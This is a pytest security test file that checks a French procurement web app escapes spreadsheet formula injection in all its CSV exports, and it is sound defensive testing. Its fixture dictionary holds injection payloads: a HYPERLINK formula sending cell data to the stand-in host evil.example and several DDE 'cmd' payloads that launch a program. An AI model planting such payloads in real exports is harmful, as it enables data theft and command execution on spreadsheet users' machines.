"""Formula injection: no cell of any CSV export starts a formula in a spreadsheet.

Text typed by people that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is written with a leading apostrophe; numbers stay numbers, negative ones included
(``-12,50`` in a numeric column is a number, not a formula).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from sqlalchemy import update

from nrhub.catalog.models import Listing
from nrhub.consolidation.models import PurchaseOrderLine
from nrhub.extensions import db
from nrhub.ledger.models import SpendEntry
from nrhub.ledger.summary import rebuild_summary
from nrhub.organisations.models import Organisation
from nrhub.spreadsheets import french_cell, french_csv
from tests.security.conftest import World, client_for

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")

FORMULAS = {
    "buyer1": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "buyer2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "refurbisher_a": "+1+cmd|' /C calc'!A0",
    "brand": "-2+3+cmd|' /C calc'!A0",
    "supplier": "\t=1+1",
    "comment": "\r=1+1",
}


@pytest.fixture
def formulas(world: World) -> World:
    ids = world.ids
    for key in ("buyer1", "buyer2", "refurbisher_a"):
        db.session.execute(
            update(Organisation).where(Organisation.id == ids[key]).values(name=FORMULAS[key])
        )
    db.session.execute(
        update(Listing)
        .where(Listing.refurbisher_id == ids["refurbisher_a"])
        .values(brand=FORMULAS["brand"], model="=1+1")
    )
    # Purchase order lines keep the designation they had at consolidation.
    db.session.execute(
        update(PurchaseOrderLine)
        .where(PurchaseOrderLine.purchase_order_id == ids["po_a"])
        .values(designation=FORMULAS["brand"])
    )
    db.session.execute(
        update(SpendEntry)
        .where(SpendEntry.id == ids["entry1"])
        .values(
            supplier_name=FORMULAS["supplier"],
            comment=FORMULAS["comment"],
            spent_on=dt.date(2026, 3, 2),
        )
    )
    rebuild_summary()
    db.session.commit()
    return world


EXPORTS = [
    ("refurbisher_a", "/reconditionneur/offres/import/modele.csv", ()),
    ("buyer1", "/acheteur/depenses/modele.csv", ()),
    ("refurbisher_a", "/bons-de-commande/{po_a}.csv", ("brand",)),
    ("coordinator", "/bons-de-commande/{po_a}.csv", ("brand",)),
    ("buyer1", "/livraisons/{delivery_a1}.csv", ("brand",)),
    ("buyer1", "/acheteur/depenses.csv?annee=2026", ("supplier", "comment")),
    ("buyer1", "/indicateurs/export/indicateurs.csv?annee=2026", ()),
    ("buyer1", "/indicateurs/export/categories.csv?annee=2026", ()),
    ("buyer1", "/indicateurs/export/mensuel.csv?annee=2026", ()),
    ("coordinator", "/indicateurs/export/membres.csv?annee=2026", ("buyer1",)),
    ("coordinator", "/indicateurs/export/departements.csv?annee=2026", ()),
    ("refurbisher_a", "/indicateurs/export/ventes.csv", ()),
    ("buyer1", "/indicateurs/declaration/2026.csv", ("buyer1",)),
    ("coordinator", "/indicateurs/declaration/2026.csv", ("buyer1", "buyer2")),
    ("buyer1", "/reparations/indicateurs.csv", ("refurbisher_a",)),
    ("coordinator", "/reparations/indicateurs.csv", ("refurbisher_a",)),
    ("buyer1", "/dons/export.csv", ("buyer1",)),
    ("coordinator", "/dons/export.csv", ("buyer1",)),
    ("refurbisher_a", "/dons/export.csv", ("buyer1",)),
    ("buyer1", "/factures.csv", ("buyer1", "refurbisher_a")),
    ("refurbisher_a", "/factures.csv", ("buyer1", "refurbisher_a")),
]


def cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            if cell and cell[0] in DANGEROUS:
                assert NUMBER.match(cell), f"formula cell {cell!r} in {where}"


def assert_neutralised(rows: list[list[str]], keys: tuple[str, ...], where: str) -> None:
    flat = [cell for row in rows for cell in row]
    for key in keys:
        wanted = "'" + FORMULAS[key]
        assert any(c.startswith(wanted) for c in flat), f"{key} not neutralised in {where}"


@pytest.mark.parametrize(("who", "template", "keys"), EXPORTS, ids=[e[1] for e in EXPORTS])
def test_web_exports_neutralise_formulas(app, formulas, who, template, keys):
    client = client_for(app, formulas, who)
    url = template.format(**formulas.ids)
    response = client.get(url)
    assert response.status_code == 200, url
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers.get("Content-Disposition", "")
    rows = cells(response.data)
    assert len(rows) >= 1
    assert_no_formula(rows, url)
    assert_neutralised(rows, keys, url)


def test_api_declaration_neutralises_formulas(app, formulas):
    headers = {"Authorization": f"Bearer {formulas.bearer['coordinator']}"}
    response = app.test_client().get("/api/v1/declarations/2026.csv", headers=headers)
    assert response.status_code == 200
    rows = cells(response.data)
    assert_no_formula(rows, "api declaration")
    assert_neutralised(rows, ("buyer1", "buyer2"), "api declaration")


def test_every_csv_route_is_checked_here(app):
    """A new CSV route must be added to EXPORTS (or to the API test above)."""
    checked = {t.split("?")[0] for _w, t, _k in EXPORTS} | {"/api/v1/declarations/2026.csv"}
    csv_rules = [r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")]
    for rule in csv_rules:
        pattern = re.sub(r"<[^>]+>", "[^/]+", rule) + "$"
        assert any(re.match(pattern, url) for url in checked), f"CSV route not checked: {rule}"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Decimal("-12.50"), "-12,50"),
        (-3, "-3"),
        (Decimal("0"), "0"),
        ("-12,50", "'-12,50"),
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Atelier = solidaire", "Atelier = solidaire"),
        ("", ""),
    ],
)
def test_numbers_stay_numbers_and_text_is_neutralised(value, expected):
    assert french_cell(value) == expected


def test_french_csv_header_cells_are_ours_and_rows_safe():
    data = french_csv(("a", "b"), [("=x", Decimal("-1.5"))])
    assert cells(data) == [["a", "b"], ["'=x", "-1,5"]]
